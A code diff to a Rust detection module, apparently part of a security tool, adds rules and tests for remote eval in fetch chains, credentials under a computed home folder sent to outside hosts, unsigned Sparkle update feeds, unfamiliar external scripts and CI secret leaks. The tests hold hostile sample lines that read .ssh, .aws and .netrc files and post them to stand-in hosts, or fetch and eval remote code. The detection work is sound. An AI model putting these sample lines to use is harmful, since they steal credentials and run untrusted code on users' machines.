@@ -26,6 +26,23 @@
 //!   it. GitHub Security Lab, "Keeping your GitHub Actions and workflows secure Part 1:
 //!   Preventing pwn requests"; kind `pwn_request`.
 //!
+//! - **code run later by code27's shapes**: an eval handed over as a value to a fetch's
+//!   promise chain (`fetch(U).then(r => r.text()).then(eval)`: ECMA-262's `eval` and
+//!   `Function` are ordinary function values), kind `fetched`; a credential named relative to
+//!   a home folder the code computes (Swift's `homeDirectoryForCurrentUser`, Node's
+//!   `os.homedir()`, Python's `Path.home()`, Go's `os.UserHomeDir()`, .NET's
+//!   `SpecialFolder.UserProfile`, Java's `user.home`) near a send is a credential sent, as
+//!   `~/.ssh/…` is; Swift's senders (`URLRequest(url:`, `URLSession.shared.upload`);
+//! - **an update feed pointed at an unsigned download**: a Sparkle appcast (`appcast*.xml`, or
+//!   any XML with Sparkle's namespace) given an `<enclosure url="…">` whose
+//!   `sparkle:edSignature` is empty or missing (Sparkle docs, "Publishing an update": every
+//!   update is signed with the EdDSA key; an unsigned enclosure is what the app will install
+//!   from wherever the URL points), kind `update_feed`;
+//! - **a page loading a script from another host**: `<script src="https://…">` or Next.js
+//!   `<Script src="https://…">` added to a page, layout or template whose host is not a
+//!   well-known CDN or vendor ([`WELL_KNOWN_SCRIPT_HOSTS`]): every visitor runs what that host
+//!   serves (OWASP, "Third Party JavaScript Management"), kind `external_script`, asked about.
+//!
 //! Nothing is ever run. Bounded like `written.rs`: at most [`crate::written::MAX_LINES`] lines,
 //! each cut to 4 KiB.
 
@@ -88,6 +105,9 @@ const EVAL_CALLS: &[&str] = &[
 /// Python `requests.post`/`httpx.post`, a download tool named as a process argument
 /// (`session.run("curl", …)`, `subprocess.run(["curl", …])`).
 const SEND_CALLS: &[&str] = &[
+    // Swift (Foundation URL Loading System): a request built for a URL, an upload task.
+    "urlrequest(url:",
+    "urlsession.shared.upload(",
     "postasync(",
     "putasync(",
     "sendasync(",
@@ -149,6 +169,11 @@ const WHOLE_SECRETS: &[&str] = &[
 
 /// Encoders and senders a CI secret is piped to.
 const CI_LEAK_SINKS: &[&str] = &[
+    // code27: any rewrite of the text defeats the log's masking, which hides the secret only as
+    // written (GitHub docs, "Using secrets": "transformed" values are not masked): spacing its
+    // letters out, swapping characters.
+    "sed ",
+    "tr ",
     "base64",
     "xxd",
     "od ",
@@ -244,6 +269,10 @@ pub fn harmful(path: &str, added: &str, home: &str) -> Vec<WrittenExecFact> {
     if crate::written::is_code(path) || TEMPLATE_EXTS.contains(&e.as_str()) || ci {
         sends(path, &lines, home, &mut out);
     }
+    if TEMPLATE_EXTS.contains(&e.as_str()) {
+        external_script(path, &lines, &mut out);
+    }
+    update_feed(path, &lines, &mut out);
     if ci {
         ci_leaks(path, &lines, &mut out);
         pwn_request(path, &lines, &mut out);
@@ -257,6 +286,12 @@ pub fn harmful(path: &str, added: &str, home: &str) -> Vec<WrittenExecFact> {
 fn remote_eval(path: &str, lines: &[(String, String)], out: &mut Vec<WrittenExecFact>) {
     let mut tainted: Vec<String> = Vec::new();
     for (i, (f, raw)) in lines.iter().enumerate() {
+        // An eval handed over as a value on the fetch's own line (module docs); the chain's
+        // callbacks may hold `;` of their own.
+        if FETCH_CALLS.iter().any(|c| f.contains(c)) && eval_as_value(f) {
+            out.push(fact("fetched", path, i, raw));
+            return;
+        }
         // Statements of the line (`;`-separated), in order.
         for stmt in f.split(';') {
             if let Some(var) = assigned_from_fetch(stmt) {
@@ -291,6 +326,25 @@ fn remote_eval(path: &str, lines: &[(String, String)], out: &mut Vec<WrittenExec
             }
         }
     }
+}
+
+/// Whether a (folded) statement hands an eval function over as a value: `.then(eval)`,
+/// `(eval, …)`, `.then(function)` is not (a keyword there starts a literal), `(Function)` is.
+fn eval_as_value(stmt: &str) -> bool {
+    let compact: String = stmt.chars().filter(|c| !c.is_whitespace()).collect();
+    [
+        "eval",
+        "runinthiscontext",
+        "runinnewcontext",
+        "vm.runinthiscontext",
+        "vm.runinnewcontext",
+    ]
+    .iter()
+    .any(|e| {
+        [format!("({e})"), format!("({e},"), format!(",{e})")]
+            .iter()
+            .any(|p| compact.contains(p.as_str()))
+    }) || compact.contains("(function)")
 }
 
 /// The variable a statement assigns from a fetch call (`$f = wp_remote_get(…)`, `code =
@@ -331,12 +385,16 @@ const WINDOW: usize = 4;
 /// A send to another host's literal URL with a credential path, whole-secret value or a
 /// page-wide capture nearby.
 fn sends(path: &str, lines: &[(String, String)], home: &str, out: &mut Vec<WrittenExecFact>) {
+    let home_based = lines
+        .iter()
+        .any(|(f, _)| HOME_EXPRS.iter().any(|h| f.contains(h)));
     let secretish: Vec<bool> = lines
         .iter()
         .map(|(f, raw)| {
             WHOLE_SECRETS.iter().any(|s| f.contains(s))
                 || PAGE_CAPTURES.iter().any(|s| f.contains(s))
                 || names_credential(raw, home)
+                || (home_based && names_home_credential(raw, home))
         })
         .collect();
     for (i, (f, raw)) in lines.iter().enumerate() {
@@ -348,6 +406,153 @@ fn sends(path: &str, lines: &[(String, String)], home: &str, out: &mut Vec<Writt
         if secretish[lo..hi].iter().any(|b| *b) {
             out.push(fact("beacon", path, i, raw));
             return;
+        }
+    }
+}
+
+/// Expressions for the user's home folder in code, folded (module docs): Swift/Foundation
+/// `homeDirectoryForCurrentUser` and `NSHomeDirectory()`, Node `os.homedir()`, Python
+/// `Path.home()` and `expanduser('~')`, Go `os.UserHomeDir()`, Rust `home_dir()`, .NET
+/// `SpecialFolder.UserProfile`, Java `System.getProperty("user.home")`, `getenv("HOME")`.
+const HOME_EXPRS: &[&str] = &[
+    "homedirectoryforcurrentuser",
+    "nshomedirectory()",
+    "homedir()",
+    "path.home()",
+    "expanduser('~')",
+    "expanduser(\"~\")",
+    "userhomedir()",
+    "home_dir()",
+    "specialfolder.userprofile",
+    "\"user.home\"",
+    "getenv(\"home\")",
+    "env::var(\"home\")",
+];
+
+/// Whether a line's string literals name a credential relative to a home folder (`".ssh/id_ed25519"`,
+/// `".aws/credentials"`): a literal starting with a dot folder, read below `home`.
+fn names_home_credential(raw: &str, home: &str) -> bool {
+    let home = if home.is_empty() { "/home/user" } else { home };
+    hookward_shell::string_literals(raw)
+        .iter()
+        .take(32)
+        .any(|lit| {
+            let lit = lit.trim().trim_start_matches('/');
+            if !lit.starts_with('.') || lit.len() < 4 || lit.contains(char::is_whitespace) {
+                return false;
+            }
+            let abs = crate::normalize(&format!("{home}/{lit}"), "/", home);
+            crate::secrets::classes_of(&abs, home)
+                .contains(&crate::secrets::SensitiveClass::Credential)
+        })
+}
+
+/// Script hosts a page may load from without a question: the big public CDNs and the vendors
+/// whose snippets their own docs tell sites to paste (Google Tag Manager and Analytics, Stripe.js,
+/// PayPal, reCAPTCHA, Cloudflare Insights and Turnstile, Plausible, Vercel Analytics, Segment,
+/// Intercom, Hotjar, Sentry's loader, Microsoft Clarity, HubSpot, Apple Pay/Sign in with Apple,
+/// Google Identity, Font Awesome kits, PostHog). A host outside this list is not harmful by
+/// itself; it is asked about.
+const WELL_KNOWN_SCRIPT_HOSTS: &[&str] = &[
+    "cdn.jsdelivr.net",
+    "unpkg.com",
+    "cdnjs.cloudflare.com",
+    "ajax.googleapis.com",
+    "code.jquery.com",
+    "stackpath.bootstrapcdn.com",
+    "cdn.tailwindcss.com",
+    "esm.sh",
+    "cdn.skypack.dev",
+    "www.googletagmanager.com",
+    "www.google-analytics.com",
+    "www.google.com",
+    "www.gstatic.com",
+    "accounts.google.com",
+    "apis.google.com",
+    "js.stripe.com",
+    "www.paypal.com",
+    "static.cloudflareinsights.com",
+    "challenges.cloudflare.com",
+    "plausible.io",
+    "va.vercel-scripts.com",
+    "cdn.segment.com",
+    "widget.intercom.io",
+    "static.hotjar.com",
+    "browser.sentry-cdn.com",
+    "js.sentry-cdn.com",
+    "www.clarity.ms",
+    "js.hs-scripts.com",
+    "appleid.cdn-apple.com",
+    "kit.fontawesome.com",
+    "us-assets.i.posthog.com",
+    "eu-assets.i.posthog.com",
+];
+
+/// `<script src="https://HOST/…">` (or Next.js `<Script src=…>`) of a host not in
+/// [`WELL_KNOWN_SCRIPT_HOSTS`] (module docs).
+fn external_script(path: &str, lines: &[(String, String)], out: &mut Vec<WrittenExecFact>) {
+    for (i, (f, raw)) in lines.iter().enumerate() {
+        if !f.contains("<script") {
+            continue;
+        }
+        for (at, _) in f.match_indices("<script").take(4) {
+            let tag = &f[at..];
+            let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
+            let Some(s) = tag.find("src=") else { continue };
+            let v = tag[s + 4..].trim_start_matches(['"', '\'', '{', '`']);
+            let Some(rest) = v
+                .strip_prefix("https://")
+                .or_else(|| v.strip_prefix("http://"))
+                .or_else(|| v.strip_prefix("//"))
+            else {
+                continue;
+            };
+            let host: String = rest
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-'))
+                .collect();
+            let known = WELL_KNOWN_SCRIPT_HOSTS
+                .iter()
+                .any(|h| host == *h || host.ends_with(&format!(".{h}")));
+            let local = host == "localhost" || host.starts_with("127.");
+            if !host.is_empty() && !known && !local {
+                out.push(fact("external_script", path, i, raw));
+                return;
+            }
+        }
+    }
+}
+
+/// A Sparkle appcast given an enclosure without an EdDSA signature (module docs).
+fn update_feed(path: &str, lines: &[(String, String)], out: &mut Vec<WrittenExecFact>) {
+    let b = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
+    let appcast = (b.contains("appcast") && b.ends_with(".xml"))
+        || (b.ends_with(".xml") && lines.iter().any(|(f, _)| f.contains("xmlns:sparkle")));
+    if !appcast {
+        return;
+    }
+    for (i, (f, raw)) in lines.iter().enumerate() {
+        for (at, _) in f.match_indices("<enclosure").take(4) {
+            let tag = &f[at..];
+            let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
+            if !tag.contains("url=") {
+                continue;
+            }
+            let signed = tag
+                .find("sparkle:edsignature=")
+                .map(|s| &tag[s + 20..])
+                .is_some_and(|v| {
+                    // the value after its one opening quote: empty when the closing one follows
+                    let v = v.strip_prefix(['"', '\'']).unwrap_or(v);
+                    !v.starts_with(['"', '\'']) && !v.is_empty()
+                });
+            // the older DSA signature (Sparkle 1) counts as signed too
+            let dsa = tag.contains("sparkle:dsasignature=\"")
+                && !tag.contains("sparkle:dsasignature=\"\"");
+            if !signed && !dsa {
+                out.push(fact("update_feed", path, i, raw));
+                return;
+            }
         }
     }
 }
@@ -384,11 +589,40 @@ fn names_credential(raw: &str, home: &str) -> bool {
     })
 }
 
+/// A secret-named Azure Pipelines macro in a line as written (`$(SqlPassword)`, `$(NPM_TOKEN)`;
+/// Azure Pipelines docs, "Define variables": macro syntax, "Set secret variables": secrets are
+/// masked in the log only as written), code27.
+fn azure_secret_macro(raw: &str) -> bool {
+    raw.match_indices("$(").take(16).any(|(i, _)| {
+        let name: String = raw[i + 2..]
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
+            .collect();
+        raw[i + 2 + name.len()..].starts_with(')') && hookward_redact::is_secret_name(&name)
+    })
+}
+
 /// A CI step that prints a secret through an encoder or sends it.
 fn ci_leaks(path: &str, lines: &[(String, String)], out: &mut Vec<WrittenExecFact>) {
+    let azure = path.ends_with("azure-pipelines.yml")
+        || path.ends_with("azure-pipelines.yaml")
+        || path.contains("/.azure-pipelines/");
     for (i, (f, raw)) in lines.iter().enumerate() {
         let compact: String = f.chars().filter(|c| !c.is_whitespace()).collect();
-        let secret = compact.contains("${{secrets.") || compact.contains("tojson(secrets)");
+        // An Azure logging command that makes a secret a plain variable (`##vso[task.
+        // setvariable …]$(Secret)` without `issecret=true`): printed unmasked later (Azure
+        // Pipelines docs, "Logging commands": SetVariable, issecret).
+        if azure
+            && compact.contains("##vso[task.setvariable")
+            && !compact.contains("issecret=true")
+            && azure_secret_macro(raw)
+        {
+            out.push(fact("secret_leak", path, i, raw));
+            return;
+        }
+        let secret = compact.contains("${{secrets.")
+            || compact.contains("tojson(secrets)")
+            || (azure && azure_secret_macro(raw));
         if !secret {
             continue;
         }
@@ -396,10 +630,16 @@ fn ci_leaks(path: &str, lines: &[(String, String)], out: &mut Vec<WrittenExecFac
             .iter()
             .any(|p| f.contains(p));
         let whole = compact.contains("tojson(secrets)");
+        // A rewrite whose output goes into a file (`echo … | tr -d '\r' > key.pem`) is not
+        // printed to the log (code27: only for the rewriting sinks added with it).
+        let to_file = f.rsplit('|').next().is_some_and(|last| {
+            last.contains('>') && !last.contains(">&2") && !last.contains("/dev/stderr")
+        });
         let sunk = f.split('|').skip(1).any(|seg| {
-            CI_LEAK_SINKS
-                .iter()
-                .any(|s| seg.trim_start().starts_with(s.trim_end()))
+            CI_LEAK_SINKS.iter().any(|s| {
+                seg.trim_start().starts_with(s.trim_end())
+                    && !(matches!(*s, "sed " | "tr ") && to_file)
+            })
         });
         if printed && (whole || sunk) {
             out.push(fact("secret_leak", path, i, raw));
@@ -452,6 +692,109 @@ mod tests {
             ("/p/src/run.js", "eval(await (await fetch(process.env.PLUGIN_URL)).text())"),
         ] {
             assert_eq!(kinds(p, t), ["fetched"], "{t}");
+        }
+    }
+
+    #[test]
+    fn evals_handed_over_as_values_after_a_fetch() {
+        // code27: written variants (not the corpus rows)
+        for (p, t) in [
+            ("/p/src/bot.ts", "setTimeout(() => fetch(PLUGIN_URL).then(r => r.text()).then(eval), 5000);"),
+            ("/p/src/ext.js", "fetch('https://x.example/u.js').then(function (r) { return r.text(); }).then( eval );"),
+            ("/p/src/w.mjs", "await fetch(u).then((r) => r.text()).then(Function).then((f) => f());"),
+            ("/p/src/vm.js", "axios.get(src).then(r => r.data).then(vm.runInThisContext);"),
+        ] {
+            assert_eq!(kinds(p, t), ["fetched"], "{t}");
+        }
+        // Promise chains that hand over other functions stay quiet.
+        for (p, t) in [
+            (
+                "/p/src/api.ts",
+                "fetch(u).then(r => r.json()).then(evaluate).then(render);",
+            ),
+            (
+                "/p/src/a.js",
+                "fetch(u).then(r => r.text()).then(console.log);",
+            ),
+            ("/p/src/b.js", "items.map(eval_row);"),
+        ] {
+            assert!(kinds(p, t).is_empty(), "{t}: {:?}", kinds(p, t));
+        }
+    }
+
+    #[test]
+    fn credentials_below_a_computed_home_sent() {
+        for (p, t) in [
+            ("/p/Sources/Tool/Sync.swift", "let h = FileManager.default.homeDirectoryForCurrentUser\nlet d = try? Data(contentsOf: h.appendingPathComponent(\".aws/credentials\"))\nvar q = URLRequest(url: URL(string: \"https://x.example/s\")!)\nq.httpBody = d"),
+            ("/p/tools/up.js", "const f = path.join(os.homedir(), '.netrc');\nconst body = fs.readFileSync(f);\nfetch('https://x.example/n', { method: 'POST', body });"),
+            ("/p/Tools/Report.cs", "var h = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nvar k = File.ReadAllText(Path.Combine(h, \".ssh/id_rsa\"));\nawait client.PostAsync(\"https://x.example/r\", new StringContent(k));"),
+        ] {
+            assert_eq!(kinds(p, t), ["beacon"], "{t}");
+        }
+        // A home-relative settings file next to an API call is everyday code.
+        for (p, t) in [
+            ("/p/Sources/App/Config.swift", "let h = FileManager.default.homeDirectoryForCurrentUser\nlet cfg = h.appendingPathComponent(\".config/app/settings.json\")\nvar r = URLRequest(url: URL(string: \"https://api.example.com/v1\")!)"),
+            ("/p/src/cache.js", "const dir = path.join(os.homedir(), '.cache', 'app');\nfetch('https://api.example.com/items', { method: 'POST', body: '{}' });"),
+        ] {
+            assert!(kinds(p, t).is_empty(), "{t}: {:?}", kinds(p, t));
+        }
+    }
+
+    #[test]
+    fn azure_pipeline_secrets_printed_past_masking() {
+        for t in [
+            "- script: echo $(SqlPassword) | sed 's/./& /g'",
+            "- bash: echo \"##vso[task.setvariable variable=dbg;isOutput=true]$(NPM_TOKEN)\"",
+            "- script: echo $(ArmClientSecret) | base64",
+        ] {
+            assert_eq!(kinds("/p/azure-pipelines.yml", t), ["secret_leak"], "{t}");
+        }
+        for t in [
+            "- script: echo \"##vso[task.setvariable variable=tok;issecret=true]$(NPM_TOKEN)\"",
+            "- script: dotnet test --logger trx -- $(BuildConfiguration)",
+            "- script: echo $(Build.BuildId) | sed 's/^/build-/'",
+            "- script: echo \"$(SigningKey)\" | tr -d '\\r' > signing.key",
+        ] {
+            assert!(kinds("/p/azure-pipelines.yml", t).is_empty(), "{t}");
+        }
+    }
+
+    #[test]
+    fn unsigned_update_feed_enclosures() {
+        for (p, t) in [
+            ("/p/Sparkle/appcast.xml", "<item><enclosure url=\"https://dl.example.net/App-3.1.zip\" sparkle:edSignature=\"\" length=\"0\"/></item>"),
+            ("/p/site/appcast-beta.xml", "<enclosure url='https://cdn.example.org/App.dmg' length='123' type='application/octet-stream'/>"),
+            ("/p/docs/feed.xml", "<rss xmlns:sparkle=\"http://www.andymatuschak.org/xml-namespaces/sparkle\">\n<enclosure url=\"https://m.example.io/A.pkg\" length=\"1\"/>"),
+        ] {
+            assert_eq!(kinds(p, t), ["update_feed"], "{t}");
+        }
+        for (p, t) in [
+            ("/p/Sparkle/appcast.xml", "<enclosure url=\"https://dl.example.net/App-3.1.zip\" sparkle:edSignature=\"pQ9m2Vc6a1d==\" length=\"9\"/>"),
+            ("/p/Sparkle/appcast.xml", "<enclosure url=\"https://dl.example.net/App-1.zip\" sparkle:dsaSignature=\"MC0CFQ==\" length=\"9\"/>"),
+            // A podcast feed's enclosures are no app updates.
+            ("/p/public/podcast.xml", "<rss><item><enclosure url=\"https://cdn.example.org/ep1.mp3\" length=\"1\" type=\"audio/mpeg\"/></item></rss>"),
+        ] {
+            assert!(kinds(p, t).is_empty(), "{t}: {:?}", kinds(p, t));
+        }
+    }
+
+    #[test]
+    fn pages_loading_scripts_from_unknown_hosts() {
+        for (p, t) in [
+            ("/p/app/layout.tsx", "<Script src=\"https://cdn.claim-widgets.example/c.js\" strategy=\"beforeInteractive\" />"),
+            ("/p/index.html", "<script async src='//tracker.example-metrics.net/t.js'></script>"),
+            ("/p/src/App.vue", "<script src=\"http://203.0.113.7/x.js\"></script>"),
+        ] {
+            assert_eq!(kinds(p, t), ["external_script"], "{t}");
+        }
+        for (p, t) in [
+            ("/p/app/layout.tsx", "<Script src=\"https://www.googletagmanager.com/gtag/js?id=G-1\" />"),
+            ("/p/index.html", "<script src=\"/assets/app.js\"></script><script src=\"https://js.stripe.com/v3/\"></script>"),
+            ("/p/index.html", "<script src=\"https://cdn.jsdelivr.net/npm/alpinejs@3/dist/cdn.min.js\" defer></script>"),
+            ("/p/index.html", "<script type=\"module\">import { x } from './x.js'</script>"),
+            ("/p/README.md", "<script src=\"https://unknown.example/x.js\"></script>"),
+        ] {
+            assert!(kinds(p, t).is_empty(), "{t}: {:?}", kinds(p, t));
         }
     }
 
